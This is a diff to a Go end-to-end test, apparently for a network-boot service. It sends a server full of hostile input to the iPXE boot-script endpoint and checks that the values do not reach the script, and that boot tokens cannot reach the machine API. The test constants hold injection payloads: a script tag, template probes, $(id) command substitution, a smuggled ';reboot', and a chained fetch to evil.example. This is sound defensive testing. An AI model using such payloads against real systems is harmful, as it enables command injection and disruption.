@@ -11,6 +11,7 @@ import (
 	"net/url"
 	"os"
 	"path/filepath"
+	"regexp"
 	"strings"
 	"testing"
 
@@ -24,16 +25,24 @@ const hostile = "x\"'><script>alert(1)</script>{{7*7}}${7*7}$(id)`id`;reboot\n#!
 // serial is as bad and all of it can be printed, so that it is taken for what it says it is.
 const serial = "x\"'><script>alert(1)</script>{{7*7}}${7*7}$(id)`id`;reboot||chain http://evil.example/"
 
+var bootToken = regexp.MustCompile(regexp.QuoteMeta(api.ParamToken) + `=(\S+)`)
+
 // TestE2EHostileServer is a server that lies about what it is, in every word that it may say. It is seen and held;
 // what it says gets into no script, page, table or answer as anything but text.
 func TestE2EHostileServer(t *testing.T) {
-	sc := Play(t, Spec(BIOS("bios1", 1)), ServerOptions{})
+	// Without DHCP no lease is asked for, and the test can speak for the server.
+	sc := Play(t, Spec(BIOS("bios1", 1)), ServerOptions{Services: []string{"api", "workers", "boot"}})
 	word := url.PathEscape(hostile)
 	code, script := ask(t, http.MethodGet, sc.Boot+"/boot/script.ipxe?mac=02:00:00:00:00:66&uuid="+word+"&arch="+word+"&platform="+word+
 		"&serial="+url.PathEscape(serial)+"&asset="+word, "", "")
 	token := bootToken.FindStringSubmatch(script)
 	if code != http.StatusOK || token == nil || strings.Contains(script, "evil") || strings.Contains(script, "reboot\n") {
 		t.Fatalf("the boot script: %d %s", code, script)
+	}
+	for _, path := range []string{api.PathMachines, api.PathNextOrder} {
+		if code, text := ask(t, http.MethodGet, sc.URL+path, token[1], ""); code != http.StatusUnauthorized {
+			t.Errorf("GET %s with a boot token: %d %s", path, code, text)
+		}
 	}
 	bearer := hostileSession(t, sc.Server, token[1])
 	if code, text := ask(t, http.MethodGet, sc.URL+api.PathMachines, bearer, ""); code != http.StatusUnauthorized {
